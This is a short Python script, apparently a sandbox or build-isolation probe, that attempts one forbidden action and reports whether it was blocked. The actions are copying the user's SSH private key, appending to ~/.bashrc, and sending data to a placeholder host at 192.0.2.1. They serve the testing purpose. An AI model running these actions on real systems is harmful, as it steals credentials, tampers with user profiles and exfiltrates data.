# SPDX-License-Identifier: GPL-2.0-or-later
"""Try one thing that no build needs, and say what came of it."""

import errno
import os
import socket
import sys


def attempt(what: str) -> None:
    """One of them."""
    home = os.environ["HOME"]
    if what == "read":
        with open(f"{home}/.ssh/id_ed25519") as key, open("stolen", "w") as copy:
            copy.write(key.read())
    elif what == "write":
        with open(f"{home}/.bashrc", "a") as profile:
            profile.write("planted\n")
    elif what == "connect":
        socket.create_connection(("192.0.2.1", 8080), timeout=9).send(b"stolen")
    else:
        os.execv(f"{os.environ['INPUTS']}/tool", ["tool"])


try:
    attempt(sys.argv[1])
except OSError as error:
    print(errno.errorcode[error.errno or 0])
else:
    print("succeeded")
